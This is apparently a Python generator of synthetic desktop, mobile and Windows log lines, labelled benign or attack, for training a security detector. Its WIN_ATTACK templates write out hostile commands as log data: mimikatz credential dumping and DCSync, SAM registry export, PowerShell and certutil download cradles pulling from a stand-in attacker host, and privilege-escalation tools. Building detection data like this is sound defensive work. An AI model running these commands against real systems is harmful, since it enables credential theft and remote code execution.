"""End-user machines: macOS, Android logcat, Windows (CBS/CSI servicing and
event-log text as NXLog/Snare forward it), mobile health apps, desktop
proxy clients.

Benign, except a handful of Windows security events that say what they are
(4625 logon failures from the network: brute_force; LSASS memory read by an
unknown process, ``sekurlsa``/``mimikatz`` command lines, a DCSync replication
request from a workstation: credential_access; new service from a temp
path or encoded PowerShell download cradles: malware_c2; a member added to
Administrators by a non-admin: privilege_escalation).  Successful logons
(4624), special privileges assigned (4672), Kerberos tickets (4768/4769 with
AES) and process creation of ordinary programs stay benign.
"""

from __future__ import annotations

from insyt.training.synth.core import BENIGN, Ctx, Emitter, Line

MAC = (
    (
        "kernel[0]",
        "IO80211AWDLPeerManager::setAwdlOperatingMode Setting the AWDL operation mode "
        "from {pick:AUTO|SUSPENDED} to {pick:SUSPENDED|AUTO}",
    ),
    (
        "kernel[0]",
        "ARPT: {int:100000-999999}.{int:100000-999999}: wl0: MDNS: IPV6 Addr: "
        "fe80:0:0:0:{hex:4}:{hex:4}:{hex:4}:{hex:4}",
    ),
    ("kernel[0]", "AppleCamIn::systemWakeCall - messageType = 0x{hex:8}"),
    ("kernel[0]", "Wake reason: {pick:ARPT|EC.LidOpen|RTC (Alarm)|XHC1} (User)"),
    (
        "kernel[0]",
        "Sandbox: {pick:com.apple.WebKit|mdworker_shared|QQ} ({pid}) deny(1) "
        "{pick:file-read-data|mach-lookup|network-outbound} {pick:/Users/{user}/Library|"
        "com.apple.coreservices.launchservicesd|/private/var/db/mds}",
    ),
    (
        "com.apple.xpc.launchd[1]",
        "(com.apple.{word}.{pid}) Service exited with abnormal code: {int:1-255}",
    ),
    (
        "com.apple.xpc.launchd[1]",
        "(com.apple.quicklook[{pid}]) Endpoint has been activated "
        "through legacy launch(3) APIs. Please switch to XPC or "
        "bootstrap_check_in(): com.apple.quicklook",
    ),
    ("sharingd[{pid}]", "{hms}.{int:100-999} : BTLE scanner Powered {pick:On|Off}"),
    (
        "mDNSResponder[{pid}]",
        "mDNS_DeregisterInterface: Frequent transitions for interface en0 ({privip})",
    ),
    (
        "symptomsd[{pid}]",
        "__73-[NetworkAnalyticsEngine observeValueForKeyPath:ofObject:change:"
        "context:]_block_invoke unexpected switch value {int:1-9}",
    ),
    ("Google Chrome Helper[{pid}]", "Couldn't set selectedTextBackgroundColor from default ()"),
    (
        "QQ[{pid}]",
        "tcp_connection_handle_connect_conditions_bad {int:100-99999} failed: "
        "{int:1-60} - No network route",
    ),
    ("syslogd[{pid}]", "ASL Sender Statistics"),
    (
        "WindowServer[{pid}]",
        "CGXDisplayDidWakeNotification [{int:1000000000-9999999999}]: posting kCGSDisplayDidWake",
    ),
    (
        "corecaptured[{pid}]",
        "CCFile::copyFile fileName is {int:2015-2025}-{int:10-12}-"
        "{int:10-28}_{int:10-23}:{int:10-59}:{int:10-59}.{int:100000-999999}"
        "-AirPortBrcm4360_Logs-{int:100-999}.txt",
    ),
    (
        "networkd[{pid}]",
        "-[NETClientConnection evaluateCrazyIvan46] CI46 - Perform CrazyIvan46! "
        "so-{int:100000-999999} {float:9}s",
    ),
    (
        "UserEventAgent[{pid}]",
        "Captive: [CNInfoNetworkActive:1748] en0: SSID '{word}' making "
        "interface primary (protected network)",
    ),
    ("authorizationhost[{pid}]", "Failed to authenticate user <{user}> (error: 9)."),
    (
        "loginwindow[{pid}]",
        "-[SessionAgentNotificationCenter sendDistributedNotification:"
        "forUserID:] | sendDistributedNotification: com.apple.loginwindow."
        "{pick:logoutcancelled|screenIsLocked}",
    ),
    (
        "secd[{pid}]",
        "SOSAccountThisDeviceCanSyncWithCircle sync with device failure: Error "
        'Domain=com.apple.security.sos.error Code=1035 "Account identity not set"',
    ),
)
ANDROID = (
    (
        "ActivityManager",
        "Start proc {pid}:{pick:com.android.phone|com.google.android.gms|"
        "com.whatsapp|com.tencent.mm}/u0a{int:10-300} for service {pick:"
        "com.google.android.gms/.chimera.PersistentIntentOperationService|"
        "com.tencent.mm/.booter.CoreService}",
    ),
    (
        "ActivityManager",
        "Killing {pid}:com.{word}.{word2}/u0a{int:10-300} (adj {int:800-999}): empty #{int:17-40}",
    ),
    (
        "PowerManagerService",
        'acquire lock={int:10000000-999999999}, flags=0x1, tag="'
        '*alarm*", name=android, ws=WorkSource{{int:10000-10300}}, '
        "uid=1000, pid={pid}",
    ),
    (
        "PowerManagerService",
        'release:lock={int:10000000-999999999}, flg=0x0, tag="RILJ_ACK_WL",'
        ' name=com.android.phone", ws=null, uid=1001, pid={pid}',
    ),
    (
        "WindowManager",
        "Changing focus from Window{{hex:7} u0 StatusBar} to null "
        "displayId=0 Callers=com.android.server.wm.RootWindowContainer."
        "updateFocusedWindowLocked:{int:100-999}",
    ),
    ("DisplayPowerController", "Animating brightness: target={int:1-255}, rate={int:40-200}"),
    ("PhoneStatusBar", "setSystemUiVisibility vis=0 mask=1 oldVal={hex:8} newVal={hex:8} diff=0"),
    ("WifiStateMachine", "processMsg: ConnectedState"),
    ("ConnectivityService", "NetworkAgentInfo [WIFI () - {int:100-999}] validation passed"),
    ("chatty", "uid=1000(system) Binder:{pid}_{int:1-9} identical {int:1-40} lines"),
    (
        "SendBroadcastPermission",
        "action:android.intent.action.SCREEN_{pick:ON|OFF}, mPermissionType:0",
    ),
    ("AlarmManager", "Alarm dispatch: batch={int:1-99} alarms, elapsed={int:1000000-99999999}"),
    ("HiView", "[HwSystemManager] {word} reported event {int:100000000-999999999}"),
    ("Zygote", "Process {pid} exited due to signal 9 (Killed)"),
    (
        "Finsky",
        "[{int:1-999}] ayxn.a(3): Package {pick:com.android.chrome|com.whatsapp} is up to date",
    ),
)
WINDOWS_CBS = (
    "Info                  CBS    Session: {int:30000000-31999999}_{int:100000000-4000000000} "
    "initialized by client WindowsUpdateAgent.",
    "Info                  CBS    Loaded Servicing Stack v6.1.7601.{int:20000-24000} with Core: "
    "C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_6.1.7601."
    "{int:20000-24000}_none_{hex:16}\\cbscore.dll",
    "Info                  CBS    Read out cached package applicability for package: "
    "Package_for_KB{int:2000000-5099999}~31bf3856ad364e35~amd64~~6.1.{int:1-9}.{int:0-9}, "
    "ApplicableState: {int:0-112}, CurrentState:{int:0-112}",
    "Info                  CSI    0000{hex:4} "
    "IAdvancedInstallerAwareStore_ResolvePendingTransactions"
    " (call 1) (flags = 00000004, progress = NULL, phase = 0, pdwDisposition = @0x{hex:7}",
    "Info                  CBS    Failed to internally open package. [HRESULT = 0x800f0805 - "
    "CBS_E_INVALID_PACKAGE]",
    "Info                  CBS    Warning: Unrecognized packageExtended attribute.",
    "Info                  CBS    SQM: Failed to start standalone package upload. [HRESULT = "
    "0x80004005 - E_FAIL]",
    "Info                  CBS    Starting TrustedInstaller initialization.",
    "Info                  CBS    NonStart: Checking to ensure startup processing was not "
    "required.",
)
WIN_BENIGN = (
    "EventID=4624 Security Microsoft-Windows-Security-Auditing An account was successfully "
    "logged on. Subject: Security ID: S-1-5-18 Account Name: {WS}$ Logon Type: {pick:2|3|5|10} "
    "New Logon: Account Name: {person} Account Domain: {DOMAIN} Logon ID: 0x{hex:7} Network "
    "Information: Workstation Name: {WS} Source Network Address: {privip} Source Port: {port}",
    "EventID=4672 Security Special privileges assigned to new logon. Subject: Security ID: "
    "S-1-5-18 Account Name: SYSTEM Account Domain: NT AUTHORITY Logon ID: 0x3e7 Privileges: "
    "SeAssignPrimaryTokenPrivilege SeTcbPrivilege SeSecurityPrivilege",
    "EventID=4634 Security An account was logged off. Subject: Account Name: {person} Logon "
    "Type: 3",
    "EventID=4769 Security A Kerberos service ticket was requested. Account Name: "
    "{person}@{DOMAIN} Service Name: {WS}$ Client Address: ::ffff:{privip} Ticket Encryption "
    "Type: 0x12 Failure Code: 0x0",
    "EventID=4688 Security A new process has been created. Creator Subject: Account Name: "
    "{person} New Process Name: C:\\Program Files\\{pick:Google\\Chrome\\Application\\chrome.exe|"
    "Microsoft Office\\root\\Office16\\OUTLOOK.EXE|Notepad++\\notepad++.exe} Token Elevation "
    "Type: %%1938",
    "EventID=7036 System Service Control Manager The {pick:Windows Update|Windows Modules "
    "Installer|Print Spooler|Background Intelligent Transfer Service} service entered the "
    "{pick:running|stopped} state.",
    "EventID=1014 System Microsoft-Windows-DNS-Client Name resolution for the name {fqdn} timed "
    "out after none of the configured DNS servers responded.",
    "EventID=10016 System Microsoft-Windows-DistributedCOM The application-specific permission "
    "settings do not grant Local Activation permission for the COM Server application with "
    "CLSID {{uuid}} to the user NT AUTHORITY\\SYSTEM",
    "EventID=4625 Security An account failed to log on. Logon Type: 2 Account Name: {person} "
    "Failure Reason: Unknown user name or bad password. Workstation Name: {WS} Source Network "
    "Address: - Status: 0xC000006D Sub Status: 0xC000006A",
    "EventID=4740 Security A user account was locked out. Account Name: {person} Caller "
    "Computer Name: {WS}",
    "EventID=1000 Application Application Error Faulting application name: {pick:explorer.exe|"
    "OUTLOOK.EXE|Teams.exe}, version: 10.0.{int:10000-22000}.1, faulting module name: "
    "{pick:ntdll.dll|KERNELBASE.dll}, exception code: 0xc0000005",
)
WIN_ATTACK = (
    (
        "brute_force",
        "EventID=4625 Security An account failed to log on. Logon Type: "
        "{pick:3|10} Account Name: {baduser} Account Domain: {pick:WORKGROUP|"
        "{DOMAIN}|.} Failure Reason: Unknown user name or bad password. Status: "
        "0xC000006D Sub Status: 0xC000006{pick:A|4} Workstation Name: "
        "{pick:-|WIN-{HEX}|kali|{WS}} Source Network Address: {ip} Source Port: "
        "{port}",
    ),
    (
        "brute_force",
        "EventID=4771 Security Kerberos pre-authentication failed. Account Name: "
        "{baduser} Service Name: krbtgt/{DOMAIN} Client Address: ::ffff:{ip} "
        "Failure Code: 0x18",
    ),
    (
        "brute_force",
        "EventID=261 Microsoft-Windows-TerminalServices-RemoteConnectionManager "
        "Listener RDP-Tcp received a connection from {ip} Failed authentication "
        "attempt for user {baduser}",
    ),
    (
        "credential_access",
        "EventID=10 Sysmon ProcessAccess SourceImage: C:\\{pick:Users\\Public|"
        "Windows\\Temp|ProgramData}\\{pick:procdump64.exe|svch0st.exe|m.exe|"
        "rundll32.exe} TargetImage: C:\\Windows\\system32\\lsass.exe "
        "GrantedAccess: 0x{pick:1010|1410|1fffff}",
    ),
    (
        "credential_access",
        "EventID=4688 Security A new process has been created. New Process "
        "Name: C:\\Users\\{person}\\AppData\\Local\\Temp\\{pick:mimikatz.exe|"
        'mk.exe|m64.exe} Process Command Line: "{pick:privilege::debug '
        "sekurlsa::logonpasswords|lsadump::sam|lsadump::dcsync /user:"
        'krbtgt|sekurlsa::tickets /export}"',
    ),
    (
        "credential_access",
        "EventID=4662 Security An operation was performed on an object. "
        "Account Name: {person} Object Type: domainDNS Properties: "
        "{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2} {1131f6ad-9c07-11d1-f79f-"
        "00c04fc2dcd2} (DS-Replication-Get-Changes-All) from {WS}",
    ),
    (
        "credential_access",
        "EventID=4688 Security A new process has been created. New Process "
        "Name: C:\\Windows\\System32\\reg.exe Process Command Line: reg save "
        "HKLM\\{pick:SAM|SYSTEM|SECURITY} C:\\Windows\\Temp\\{word}.hiv",
    ),
    (
        "credential_access",
        "EventID=4769 Security A Kerberos service ticket was requested. "
        "Account Name: {person}@{DOMAIN} Service Name: {pick:MSSQLSvc|"
        "HTTP|svc_sql} Ticket Encryption Type: 0x17 Client Address: "
        "::ffff:{privip}",
    ),
    (
        "malware_c2",
        "EventID=4104 Microsoft-Windows-PowerShell Creating Scriptblock text: "
        "IEX (New-Object Net.WebClient).DownloadString('http://{evil}/{pick:a.ps1|"
        "Invoke-Shellcode.ps1|payload}')",
    ),
    (
        "malware_c2",
        "EventID=4688 Security A new process has been created. New Process Name: "
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe Process "
        "Command Line: powershell -nop -w hidden -enc {blob:90}",
    ),
    (
        "malware_c2",
        "EventID=7045 System Service Control Manager A service was installed in the "
        "system. Service Name: {pick:{hex:7}|WinUpdSvc|PSEXESVC} Service File Name: "
        "{pick:%COMSPEC% /b /c start /b /min powershell -nop -w hidden -noni -c "
        '"IEX '
        '..."|C:\\Windows\\Temp\\{hex:8}.exe|\\\\127.0.0.1\\ADMIN$\\{hex:7}.exe}',
    ),
    (
        "malware_c2",
        "EventID=3 Sysmon Network connection detected: Image: C:\\Users\\{person}\\"
        "AppData\\Roaming\\{word}.exe DestinationIp: {pubip} DestinationPort: "
        "{pick:4444|8443|1337|443|8080}",
    ),
    (
        "malware_c2",
        "EventID=4688 Security A new process has been created. New Process Name: "
        "C:\\Windows\\System32\\certutil.exe Process Command Line: certutil -urlcache "
        "-split -f http://{evil}/{word}.exe C:\\Users\\Public\\{word}.exe",
    ),
    (
        "privilege_escalation",
        "EventID=4732 Security A member was added to a security-enabled "
        "local group. Subject: Account Name: {baduser} Member: Security "
        "ID: {DOMAIN}\\{baduser} Group: Group Name: Administrators",
    ),
    (
        "privilege_escalation",
        "EventID=4728 Security A member was added to a security-enabled "
        "global group. Member: CN={baduser},CN=Users,DC={word},DC=local "
        "Group Name: Domain Admins",
    ),
    (
        "privilege_escalation",
        "EventID=4688 Security A new process has been created. New Process "
        "Name: C:\\Windows\\Temp\\{pick:PrintSpoofer64.exe|JuicyPotato.exe|"
        "GodPotato.exe} Process Command Line: {pick:-i -c cmd|-t * -p "
        "c:\\windows\\system32\\cmd.exe -l 1337} Token Elevation Type: "
        "%%1937",
    ),
)
HEALTH = (
    "Step_LSC|{int:30000000-30009999}|onStandStepChanged {int:1000-9999}",
    "Step_SPUtils|{int:30000000-30009999}| getTodayTotalDetailSteps = {int:1500000000000-"
    "1599999999999}##{int:1000-9999}##{int:500000-999999}##{int:1000-9999}##"
    "{int:10000-99999}##{int:1500000000000-1599999999999}",
    "Step_ExtSDM|{int:30000000-30009999}|calculateCaloriesWithCache totalCalories="
    "{int:10000-200000}",
    "HiH_HiHealthDataInsertStore|{int:30000000-30009999}|saveHealthDetailData() size = "
    "{int:1-9},isUpdate = {pick:true|false}",
    "Step_StandReportReceiver|{int:30000000-30009999}|onReceive action: "
    "android.intent.action.SCREEN_{pick:ON|OFF}",
    "HiH_HiSyncControl|{int:30000000-30009999}|uploadStaticsToDB() onResult type = {int:1-9} "
    "obj={pick:true|false}",
)
PROXIFIER = (
    "{exe} - {fqdn}:{pick:443|80|5222} open through proxy {pick:proxy.{domain}|{privip}}:"
    "{pick:5070|8080|1080|3128} {pick:HTTPS|SOCKS5}",
    "{exe} - {fqdn}:{pick:443|80} close, {int:0-999999} bytes ({pick:0|1.{int:0-9}|"
    "{int:1-999}}{pick: KB| MB|}) sent, {int:0-9999999} bytes received, lifetime "
    "{pick:00:0{int:1-9}|<1 sec|0{int:1-9}:{int:10-59}}",
    "{exe} - {fqdn}:443 error : Could not connect through proxy proxy.{domain}:5070 - Proxy "
    "server cannot establish a connection with the target, status code {pick:403|502|504}",
)


# Desktop and session software complains constantly; these parts combine into thousands of
# ordinary "failed"/"error"/"denied"/"invalid" messages of no security meaning.
_NOISE_APPS = (
    "Dropbox",
    "GoogleSoftwareUpdateAgent",
    "Google Chrome Helper",
    "Spotify",
    "Slack",
    "QQ",
    "WeChat",
    "Microsoft Word",
    "Microsoft Outlook",
    "zoom.us",
    "Teams",
    "firefox",
    "gnome-shell",
    "pulseaudio",
    "bluetoothd",
    "Xorg",
    "plasmashell",
    "kded5",
    "gvfsd",
    "tracker-miner-fs",
    "nautilus",
    "evolution-calendar",
    "gnome-keyring-daemon",
    "NetworkManager",
    "WindowServer",
    "Dock",
    "Finder",
    "Safari",
    "mds_stores",
    "cloudd",
    "bird",
    "CalendarAgent",
    "AddressBookSourceSync",
    "SpotlightNetHelper",
    "coreaudiod",
    "locationd",
    "com.apple.WebKit",
    "OneDrive",
    "steam",
    "code",
    "thunderbird",
    "libinput",
    "colord",
    "fwupd",
    "packagekitd",
)
_NOISE_VERBS = (
    "Failed to",
    "failed to",
    "Unable to",
    "Could not",
    "Cannot",
    "Error while trying to",
    "Timed out trying to",
    "Refused to",
    "Not allowed to",
    "Denied attempt to",
)
_NOISE_ACTIONS = (
    "read",
    "open",
    "load",
    "parse",
    "create",
    "connect to",
    "resolve",
    "register",
    "lookup",
    "write",
    "sync",
    "query",
    "acquire",
    "initialize",
    "decode",
    "send ping to",
    "authenticate with",
    "activate",
    "validate",
    "fetch",
)
_NOISE_OBJECTS = (
    "DnsConfig",
    "global data",
    "the preferences file",
    "plist {word}.plist",
    "socket",
    "service com.{word}.{word2}",
    "keychain item",
    "session bus",
    "GPU process",
    "audio device",
    "calendar {uuid}",
    "icon theme",
    "font cache",
    "XPC connection",
    "display {int:0-3}",
    "extension {word}@{word2}",
    "update manifest",
    "certificate for {fqdn}",
    "proxy settings",
    "cache database",
    "D-Bus name org.freedesktop.{word}",
    "thumbnail for /home/{user}/{word}.jpg",
    "login keyring",
    "printer {word}",
    "/var/folders/{hex:2}/{hex:8}/T/{word}.tmp",
    "token for account {email}",
)
_NOISE_TAILS = (
    "",
    "",
    ".",
    ": (null)",
    ": No such file or directory",
    ": Permission denied",
    ": Operation not permitted",
    ": Connection refused",
    ": timed out",
    " (error -{int:1-9999})",
    ": invalid argument",
    ": resource busy",
    ", will retry in {int:1-300}s",
    ": access denied",
    " - error code 0x{hex:8}",
    " [{pick:WARNING|ERROR|FAULT}]",
    ": denied by sandbox",
)


def noise_message(c: Ctx) -> str:
    """One ordinary complaint of desktop software."""
    r = c.rng.random()
    if r < 0.6:
        text = (
            f"{c.pick(_NOISE_VERBS)} {c.pick(_NOISE_ACTIONS)} {c.pick(_NOISE_OBJECTS)}"
            f"{c.pick(_NOISE_TAILS)}"
        )
    elif r < 0.8:
        cls = c.fill("{word}").capitalize() + c.pick(
            ("Manager", "Controller", "Agent", "Parser", "Store", "Service", "Client")
        )
        sel = ":".join(c.fill("{word}") for _ in range(c.rng.randint(1, 5)))
        text = (
            f"-[{cls}:0x7f{c.fill('{hex:10}')} {sel}:] {c.pick(_NOISE_VERBS).lower()} "
            f"{c.pick(_NOISE_ACTIONS)} {c.pick(_NOISE_OBJECTS)}{c.pick(_NOISE_TAILS)}"
        )
    elif r < 0.9:
        text = (
            f"[{c.when:%m%d/%H%M%S}:{c.pick(('WARNING', 'ERROR', 'INFO'))}:"
            f"{c.fill('{word}')}_{c.fill('{word}')}.cc({c.rng.randint(10, 2000)})] "
            f"{c.pick(_NOISE_VERBS)} {c.pick(_NOISE_ACTIONS)} {c.pick(_NOISE_OBJECTS)}."
        )
    else:
        text = c.pick(
            (
                f"{'#' * c.rng.randint(10, 40)} {c.fill('_{word}{word2}List')}",
                c.fill("the url = https://{fqdn}/item/%E8%93%9D{hex:6}/{int:1-99999}?fr={word}"),
                c.fill(
                    "{word}: state changed {pick:0|1|2} -> {pick:3|4|5} (reason "
                    "{pick:none|timeout|user})"
                ),
            )
        )
    return c.fill(text)


def _noise(c: Ctx) -> list[Line]:
    app = c.pick(_NOISE_APPS)
    pid = c.fill("{pid}")
    host = c.fill(c.pick(("{person}-MacBook-Pro", "{word}-laptop", "{word}-desktop", "{srv}")))
    out = []
    for _ in range(c.rng.randint(1, 4)):
        c.tick(0, 30)
        msg = noise_message(c)
        if c.chance(0.5):
            line = f"{c.when:%b} {c.when.day:2d} {c.when:%H:%M:%S} {host} {app}[{pid}]: {msg}"
            out.append(c.line("desktop", BENIGN, "benign:desktop-noise", app, line, raw=True))
        else:
            out.append(
                c.line(
                    "desktop", BENIGN, "benign:desktop-noise", app.replace(" ", "_"), msg, pid=pid
                )
            )
    return out


def _extra(c: Ctx) -> dict[str, str]:
    return {
        "hms": f"{c.when:%H:%M:%S}",
        "WS": c.fill("{word}").upper()[:15],
        "DOMAIN": c.fill("{word}").upper()[:12],
        "HEX": c.fill("{hex:11}").upper(),
        "exe": c.pick(
            (
                "chrome.exe",
                "firefox.exe",
                "Dropbox.exe",
                "Skype.exe",
                "Teams.exe",
                "svchost.exe",
                "OneDrive.exe",
                "outlook.exe",
                "WeChat.exe",
                "SogouCloud.exe",
                "git-remote-https.exe",
            )
        ),
    }


def _mac(c: Ctx) -> list[Line]:
    host = c.fill(
        c.pick(
            ("{person}-MacBook-Pro", "{word}s-iMac", "calvisitor-10-105-{int:1-250}-{int:1-250}")
        )
    )
    out = []
    for _ in range(c.rng.randint(1, 4)):
        app, template = c.pick(MAC)
        app = c.fill(app, **_extra(c))
        msg = c.fill(template, **_extra(c))
        if c.chance(0.6):
            line = f"{c.when:%b} {c.when.day:2d} {c.when:%H:%M:%S} {host} {app}: {msg}"
            out.append(c.line("macos", BENIGN, "benign:macos", "macos", line, raw=True))
        else:
            name, _, pid = app.partition("[")
            out.append(
                c.line(
                    "macos",
                    BENIGN,
                    "benign:macos",
                    name.replace(" ", "_"),
                    msg,
                    pid=pid.rstrip("]") or None,
                )
            )
    return out


def _android(c: Ctx) -> list[Line]:
    pid, tid = c.rng.randint(500, 30000), c.rng.randint(500, 30000)
    out = []
    for _ in range(c.rng.randint(1, 5)):
        tag, template = c.pick(ANDROID)
        msg = c.fill(template, **_extra(c))
        level = c.pick(("I", "I", "D", "V", "W", "E"))
        c.tick(0, 0.5)
        line = (
            f"{c.when:%m-%d %H:%M:%S}.{c.when.microsecond // 1000:03d} {pid:5d} {tid:5d} "
            f"{level} {tag}: {msg}"
        )
        out.append(c.line("android", BENIGN, "benign:android", "logcat", line, raw=True))
    return out


def _windows(category: str, weight: float) -> Emitter:
    def emit(c: Ctx) -> list[Line]:
        out = []
        for _ in range(c.rng.randint(1, 3)):
            if category == BENIGN:
                template = c.pick(WIN_BENIGN)
            else:
                template = c.pick([t for cat, t in WIN_ATTACK if cat == category])
            msg = c.fill(template, **_extra(c))
            r = c.rng.random()
            scenario = "benign:windows" if category == BENIGN else f"attack:windows-{category}"
            if r < 0.4:
                out.append(
                    c.line(
                        "windows",
                        category,
                        scenario,
                        c.pick(
                            (
                                "MSWinEventLog",
                                "Microsoft-Windows-Security-Auditing",
                                "EventLog",
                                "nxlog",
                            )
                        ),
                        msg.replace("EventID=", "").replace(" Security ", "\tSecurity\t", 1)
                        if c.chance(0.3)
                        else msg,
                    )
                )
            else:
                out.append(
                    c.line(
                        "windows",
                        category,
                        scenario,
                        "Microsoft-Windows-Security",
                        f"{c.when:%Y-%m-%d %H:%M:%S} {c.fill('{host}')} {msg}",
                        raw=True,
                    )
                )
        return out

    return Emitter(f"windows:{category}", category, weight, emit)


def _simple(family: str, templates: tuple[str, ...], weight: float, head: str) -> Emitter:
    def emit(c: Ctx) -> list[Line]:
        out = []
        for _ in range(c.rng.randint(1, 4)):
            when = c.tick(0, 1)
            msg = c.fill(c.pick(templates), **_extra(c))
            if head == "cbs":
                line = f"{when:%Y-%m-%d %H:%M:%S}, {msg}"
            elif head == "health":
                line = f"{when:%Y%m%d-%H:%M:%S}:{when.microsecond // 1000}|{msg}"
            else:
                line = f"[{when:%m.%d %H:%M:%S}] {msg}"
            out.append(c.line(family, BENIGN, f"benign:{family}", family, line, raw=True))
        return out

    return Emitter(f"{family}:benign", BENIGN, weight, emit)


EMITTERS: tuple[Emitter, ...] = (
    Emitter("macos:benign", BENIGN, 2.0, _mac),
    Emitter("desktop:noise", BENIGN, 3.0, _noise),
    Emitter("android:benign", BENIGN, 2.0, _android),
    _simple("windows-cbs", WINDOWS_CBS, 1.5, "cbs"),
    _simple("healthapp", HEALTH, 1.0, "health"),
    _simple("proxifier", PROXIFIER, 1.0, "proxifier"),
    _windows(BENIGN, 2.0),
    _windows("brute_force", 1.0),
    _windows("credential_access", 2.0),
    _windows("malware_c2", 1.5),
    _windows("privilege_escalation", 1.0),
)
